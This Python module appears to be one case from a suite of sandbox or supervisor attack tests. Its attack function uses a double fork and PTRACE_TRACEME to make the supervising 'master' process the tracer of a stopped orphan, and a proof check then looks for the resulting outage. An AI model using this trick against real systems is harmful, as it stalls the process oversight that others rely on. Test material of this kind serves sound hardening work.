"""Leave a process that makes the master its tracer, and stop it."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

TIMED = True
CONTROL = "careless_oversight"
PTRACE_TRACEME = 0


def attack(given: Given) -> object:
    import ctypes
    import os
    import signal
    import time

    libc = ctypes.CDLL(None, use_errno=True)
    told, tell = os.pipe()
    if os.fork() == 0:
        parent = os.getpid()
        if os.fork() == 0:
            try:
                os.closerange(0, tell)
                os.closerange(tell + 1, 4096)
                signal.alarm(20)
                while os.getppid() == parent:
                    time.sleep(0.001)
                if libc.ptrace(PTRACE_TRACEME, 0, 0, 0) == 0:
                    os.write(tell, b"t")
                    os.kill(os.getpid(), signal.SIGSTOP)
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()
    os.close(tell)
    return os.read(told, 1)


def proof(scene: Scene) -> str | None:
    return scene.outage(watched_s=1.0)
